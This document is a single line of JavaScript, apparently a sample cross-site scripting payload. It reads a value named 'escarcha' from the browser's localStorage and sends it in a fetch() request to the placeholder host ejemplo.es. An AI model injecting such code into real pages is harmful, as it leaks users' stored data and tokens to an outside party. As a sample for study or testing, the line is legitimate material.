fetch("https://ejemplo.es/?" + localStorage.getItem("escarcha"))
